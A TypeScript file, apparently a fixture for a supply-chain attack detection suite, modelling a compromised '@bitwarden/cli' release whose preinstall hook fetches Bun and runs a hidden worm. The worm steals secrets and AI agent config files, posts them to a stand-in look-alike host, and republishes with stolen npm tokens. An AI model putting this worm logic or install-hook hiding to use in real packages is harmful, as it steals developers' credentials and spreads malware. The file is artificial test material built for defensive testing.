import { defineAttack } from "../attack.ts";
import { commandTool } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import { bunBootstrap, collectSecrets, postLoot, republish, uploadToRepository } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { Sample } from "../sample.ts";

/**
 * `@bitwarden/cli` 2026.4.0, 22 April 2026: a compromised action in the release workflow, so that trusted publishing and
 * provenance are as ever. `preinstall` fetches Bun and runs `bw1.js`; a look-alike of an auditing company's domain takes the loot.
 */
export const bitwardenCli2026: Sample = defineAttack({
  id: "bitwarden-cli-2026",
  title: "A valid pipeline publishes a hook that fetches Bun and runs a worm",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "@bitwarden/cli", version: "2026.4.0" }],
  now: "2026-04-22T22:20:00Z",
  createLines: () => [
    {
      name: "@bitwarden/cli",
      files: commandTool("@bitwarden/cli", "bw"),
      manifest: { bin: { bw: "bin/bw.js" } },
      way: "trusted-publisher",
      releases: [
        ["2026.1.0", "2026-01-20T10:00:00Z"],
        ["2026.2.0", "2026-02-18T10:00:00Z"],
        ["2026.3.0", "2026-03-24T10:00:00Z"],
        [
          "2026.4.0",
          "2026-04-22T21:57:00Z",
          {
            manifest: { scripts: { preinstall: "node bw_setup.js" }, bin: { bw: "bw_setup.js" } },
            files: [
              { path: "bw_setup.js", content: commonScript(bunBootstrap("bw1.js")) },
              { path: "bw1.js", content: renderBundle(2_000_000, 42, [hideInTable(oneLine(worm))]) },
            ],
          },
        ],
      ],
    },
  ],
});

const worm = commonScript(`
${collectSecrets}
${uploadToRepository("Inert: The Third Coming")}
${republish}
loot.agents = {};
for (const name of [".claude.json", ".claude/mcp.json", ".kiro/settings/mcp.json", ".cursor/mcp.json"]) { const place = path.join(os.homedir(), name); if (fs.existsSync(place)) { loot.agents[name] = fs.readFileSync(place, "utf8"); } }
if (process.env.GITHUB_TOKEN) { uploadToRepository(process.env.GITHUB_TOKEN); }
${postLoot("audit.checkmarx.invalid", "/v1/telemetry")}
if (npmToken()) { republish(npmToken()); }
`);
